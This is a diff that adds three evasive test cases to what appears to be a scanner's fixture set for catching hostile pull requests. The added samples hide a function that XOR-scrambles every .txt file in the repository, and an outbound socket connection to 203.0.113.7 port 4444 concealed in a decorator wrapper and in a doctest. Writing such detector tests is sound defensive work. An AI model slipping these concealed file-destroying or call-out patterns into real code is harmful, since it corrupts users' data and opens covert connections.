@@ -90,4 +90,48 @@ EVASIVE: Final = (
         },
         verdicts=("fail", "inconclusive"),
     ),
+    # Neither deleted nor emptied, and no source file at import: nobody counted.
+    Pull(
+        name="wraps-the-files-in-place",
+        base={f"data/{number}.txt": "value\n" for number in range(30)},
+        head={
+            "src/pricing/x.py": """
+                import pathlib
+
+
+                def refresh(folder=None):
+                    for path in sorted(pathlib.Path(__file__).parents[2].rglob("*.txt")):
+                        with path.open("r+b") as file:
+                            data = bytes(byte ^ 85 for byte in file.read())
+                            file.seek(0)
+                            file.write(data)
+                """
+        },
+        verdicts=("fail",),
+        rules=("destructive-delete",),
+    ),
+    # A decorator was called, what it gave back was not.
+    Pull(
+        name="in-a-decorator-s-wrapper",
+        head={
+            "src/pricing/x.py": "import functools\nimport socket\n\n\ndef retry(times=3):\n    def outer(function):\n"
+            "        @functools.wraps(function)\n        def inner(*words):\n            s = socket.socket()\n"
+            "            s.settimeout(1)\n            s.connect_ex(('203.0.113.7', 4444))\n"
+            "            return function(*words)\n\n        return inner\n\n    return outer\n"
+        },
+        verdicts=("fail",),
+        rules=("new-outbound-connection",),
+    ),
+    # Only doctest ever runs it.
+    Pull(
+        name="in-a-docstring-s-example",
+        head={
+            "pyproject.toml": '[project]\nname = "pricing"\nversion = "1.4.0"\n'
+            '[tool.pytest.ini_options]\naddopts = "--doctest-modules"\n',
+            "src/pricing/x.py": '"""Sums.\n\n>>> import socket\n>>> s = socket.socket(); s.settimeout(1)\n'
+            '>>> _ = s.connect_ex((\'203.0.113.7\', 4444))\n"""\n',
+        },
+        verdicts=("fail", "warn"),
+        rules=("new-outbound-connection",),
+    ),
 )
